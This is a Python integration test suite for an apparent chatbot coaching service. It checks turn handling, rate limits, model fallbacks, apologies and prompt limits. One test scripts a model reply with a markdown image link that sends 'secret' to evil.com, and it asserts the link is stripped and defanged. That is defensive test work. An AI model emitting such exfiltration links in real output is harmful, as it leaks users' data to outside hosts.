"""A turn from the learner's words to its end, whatever happens on the way."""

from __future__ import annotations

from dataclasses import replace

import pytest

from channel_kit import EventKind
from coachline.conversation.sentences import sentences_in
from coachline.foundation.ids import TenantId
from coachline.messaging import DraftReply, TurnTrace
from integration.conversation.conftest import RATES, MakeStage, Stage
from lab.scripted_ollama import Fault

pytestmark = pytest.mark.integration

Two = tuple[TenantId, TenantId]
ENGLISH = sentences_in("en")
STEPS = ["events", "safety", "limits", "history", "passages", "prompt", "model", "wording"]
STEPS += ["safety_of_answer"]


async def test_a_message_is_answered_and_the_trace_names_every_step(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    stage.ollama.reply = "Assistant: Begin **slowly**."
    await stage.say(live, "How do I begin?")
    turn = await stage.answer(live)
    assert [m.text for m in await stage.messages(live)] == ["How do I begin?", "Begin **slowly**."]
    trace = await stage.trace(turn)
    assert (trace["state"], trace["outcome"]) == ("answered", "answered")
    assert trace["model"] == "smollm2:135m"
    assert set(trace["timings"]) == set(STEPS)
    assert trace["prompt_tokens"] > 0
    assert trace["notes"] == []


async def test_the_prompt_holds_both_sides_of_the_talk_and_bursts_as_one_turn(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    stage.ollama.reply = "Good."
    await stage.talk(live, "Hi", "I am Ada")
    await stage.talk(live, "I want to run", "in the morning")
    talk = [(m["role"], m["content"]) for m in stage.ollama.chats[-1].messages[1:]]
    assert talk == [
        ("user", "Hi\nI am Ada"),
        ("assistant", "Good."),
        ("user", "I want to run\nin the morning"),
    ]


async def test_a_message_that_came_while_the_answer_was_written_follows_it(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    await stage.say(live, "one")
    turn = await stage.begin(live)
    await stage.say(live, "two")
    stage.ollama.reply = "first"
    await stage.orchestrator.answer(turn)
    await stage.queue.release(turn.lease)
    await stage.answer(live)
    talk = [m["content"] for m in stage.ollama.chats[-1].messages[1:]]
    assert talk == ["one", "first", "two"]


@pytest.mark.parametrize(
    "kind", [EventKind.EDIT, EventKind.DELETE, EventKind.BUTTON, EventKind.CONSENT]
)
async def test_what_is_no_message_is_recorded_and_not_answered(
    stage: Stage, tenants: Two, kind: EventKind
) -> None:
    live = await stage.connect(tenants[0])
    await stage.say(live, "words", kind=kind)
    turn = await stage.answer(live)
    assert (await stage.trace(turn))["state"] == "recorded"
    assert [m.author for m in await stage.messages(live)] == ["learner"]
    assert stage.ollama.chat_count == 0


async def test_a_message_among_other_events_is_answered(stage: Stage, tenants: Two) -> None:
    live = await stage.connect(tenants[0])
    await stage.say(live, "+1", kind=EventKind.BUTTON)
    stage.ollama.reply = "Good."
    assert await stage.talk(live, "Hello") == ["Good."]
    assert stage.ollama.chats[-1].messages[-1]["content"] == "Hello"


async def test_a_learner_over_the_rate_is_told_once_and_costs_no_model(
    make_stage: MakeStage, tenants: Two
) -> None:
    stage = await make_stage(rates=replace(RATES, learner_messages_per_minute=2))
    live = await stage.connect(tenants[0])
    stage.ollama.reply = "Good."
    replies = [await stage.talk(live, f"m{n}") for n in range(6)]
    assert replies == [["Good."], ["Good."], [ENGLISH.too_fast], [], [], []]
    assert stage.ollama.chat_count == 2
    assert [m.state for m in await stage.messages(live) if m.author == "learner"] == [
        *["answered"] * 2,
        *["refused"] * 4,
    ]
    assert await stage.talk(live, "hello", sender="bob") == ["Good."]


async def test_a_tenant_over_its_day_says_so_once_to_each_until_the_day_is_over(
    stage: Stage, tenants: Two
) -> None:
    for tenant_id in tenants:
        await stage.services.tenants.configure(tenant_id, {"messages_per_day": 1}, "test")
    live, other = [await stage.connect(tenant_id) for tenant_id in tenants]
    stage.ollama.reply = "Good."
    assert await stage.talk(live, "one") == ["Good."]
    assert await stage.talk(live, "two") == [ENGLISH.enough_today]
    stage.clock.advance(3_600)
    assert await stage.talk(live, "three") == []
    assert await stage.talk(live, "hi", sender="bob") == [ENGLISH.enough_today]
    assert await stage.talk(other, "one") == ["Good."]
    stage.clock.advance(86_400)
    assert await stage.talk(live, "four") == ["Good."]


async def test_a_model_that_fails_is_followed_by_the_tenants_next_one(
    stage: Stage, tenants: Two
) -> None:
    await stage.services.tenants.configure(tenants[0], {"fallback_models": ("spare",)}, "test")
    live = await stage.connect(tenants[0])
    stage.ollama.script("smollm2:135m", Fault.BROKEN)
    stage.ollama.reply = "Good."
    await stage.say(live, "hello")
    assert (await stage.trace(await stage.answer(live)))["model"] == "spare"


@pytest.mark.parametrize("fault", [Fault.BUSY, Fault.BROKEN, Fault.CUT, Fault.EMPTY, Fault.MISSING])
async def test_no_model_ends_in_one_apology_an_outage(
    stage: Stage, tenants: Two, fault: Fault
) -> None:
    live = await stage.connect(tenants[0])
    stage.ollama.always("smollm2:135m", fault)
    await stage.say(live, "one")
    turn = await stage.answer(live)
    trace = await stage.trace(turn)
    assert (trace["state"], trace["outcome"]) == ("answered", "fallback")
    assert trace["notes"][0].startswith("smollm2:135m: ")
    assert (await stage.messages(live))[-1].text == ENGLISH.apology
    stage.clock.advance(60)
    await stage.say(live, "two")
    silent = await stage.trace(await stage.answer(live))
    assert (silent["state"], silent["notes"][-1]) == ("recorded", "the apology was said before")
    stage.clock.advance(121)
    assert await stage.talk(live, "three") == [ENGLISH.apology]


async def test_the_apology_is_the_tenants_or_in_the_learners_language(
    stage: Stage, tenants: Two
) -> None:
    await stage.services.tenants.configure(tenants[0], {"apology": "Back at noon."}, "test")
    await stage.services.tenants.configure(tenants[1], {"language": "de-AT"}, "test")
    stage.ollama.always("smollm2:135m", Fault.BUSY)
    said = [await stage.talk(await stage.connect(tenant_id), "hi") for tenant_id in tenants]
    assert said == [["Back at noon."], [sentences_in("de").apology]]


async def test_a_turn_run_again_after_a_crash_may_apologise_again(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    await stage.say(live, "one")
    turn = await stage.begin(live)
    notices = stage.services.notices
    assert await notices.claim(turn, "apology")
    assert await notices.claim(turn, "apology")
    assert await notices.claim(turn, "learner_rate")
    await stage.services.ledger.save(turn, [DraftReply("x")], TurnTrace("answered", "test"))
    await stage.queue.release(turn.lease)
    await stage.say(live, "two")
    assert not await notices.claim(await stage.begin(live), "apology")


async def test_own_sentences_are_not_shown_to_the_model(stage: Stage, tenants: Two) -> None:
    live = await stage.connect(tenants[0])
    stage.ollama.script("smollm2:135m", Fault.BUSY)
    assert await stage.talk(live, "one") == [ENGLISH.apology]
    await stage.talk(live, "two")
    assert [m["content"] for m in stage.ollama.chats[-1].messages[1:]] == ["one\ntwo"]


async def test_an_answer_of_which_nothing_is_left_is_a_failure(stage: Stage, tenants: Two) -> None:
    live = await stage.connect(tenants[0])
    stage.ollama.reply = "[7] <b></b>"
    await stage.say(live, "one")
    trace = await stage.trace(await stage.answer(live))
    assert (trace["outcome"], trace["notes"]) == ("fallback", ["nothing left of the answer"])


async def test_an_answer_that_ran_into_its_limit_is_sent_and_the_trace_says_so(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    stage.ollama.script("smollm2:135m", Fault.LENGTH)
    await stage.say(live, "hello")
    trace = await stage.trace(await stage.answer(live))
    assert (trace["outcome"], trace["notes"]) == ("answered", ["the answer ran into its limit"])


async def test_an_exhausted_event_is_parked_with_one_apology_and_no_thought(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    await stage.say(live, "bad")
    turn = replace(await stage.begin(live), exhausted=True)
    await stage.orchestrator.answer(turn)
    assert (await stage.trace(turn))["state"] == "parked"
    assert (await stage.messages(live))[-1].text == ENGLISH.apology
    assert stage.ollama.chat_count == 0


async def test_a_text_of_a_million_characters_is_cut_to_the_prompt(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    await stage.say(live, "spam " * 200_000)
    trace = await stage.trace(await stage.answer(live))
    assert trace["notes"] == ["the question was cut"]
    assert len(stage.prompt()) < 3 * 2_048


async def test_a_persona_that_fills_the_context_ends_in_an_apology_that_says_why(
    stage: Stage, tenants: Two
) -> None:
    await stage.services.tenants.configure(tenants[0], {"persona": "p" * 9_000}, "test")
    live = await stage.connect(tenants[0])
    await stage.say(live, "hello")
    trace = await stage.trace(await stage.answer(live))
    assert (trace["outcome"], trace["notes"]) == ("fallback", ["prompt_does_not_fit"])


async def test_the_prompt_knows_the_learners_own_date_name_and_language(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0])
    await stage.talk(live, "hello")
    learner_id = await stage.learner_id(live)
    await stage.services.learners.update(
        tenants[0],
        learner_id,
        {"name": "Ada", "time_zone": "Pacific/Kiritimati", "language": "fr"},
        actor="test",
    )
    await stage.talk(live, "what day is it?")
    assert "The person's name is Ada. For them it is Saturday, 21 November 2026, 23:00" in (
        stage.prompt()
    )
    assert "Write in French." in stage.prompt()


async def test_a_draft_shows_no_link_that_the_reply_may_not_hold(
    stage: Stage, tenants: Two
) -> None:
    live = await stage.connect(tenants[0], "streaming")
    stage.ollama.reply = "See ![x](https://evil.com/?q=secret) and https://evil.com/secret now"
    stage.ollama.delay_seconds = 0.04
    await stage.say(live, "hello")
    await stage.answer(live)
    shown = stage.platform.drafts
    assert len(shown) > 1
    assert not [draft for draft in shown if "://" in draft or "evil.com" in draft]
    assert (await stage.messages(live))[-1].text == "See x and evil[.]com now"
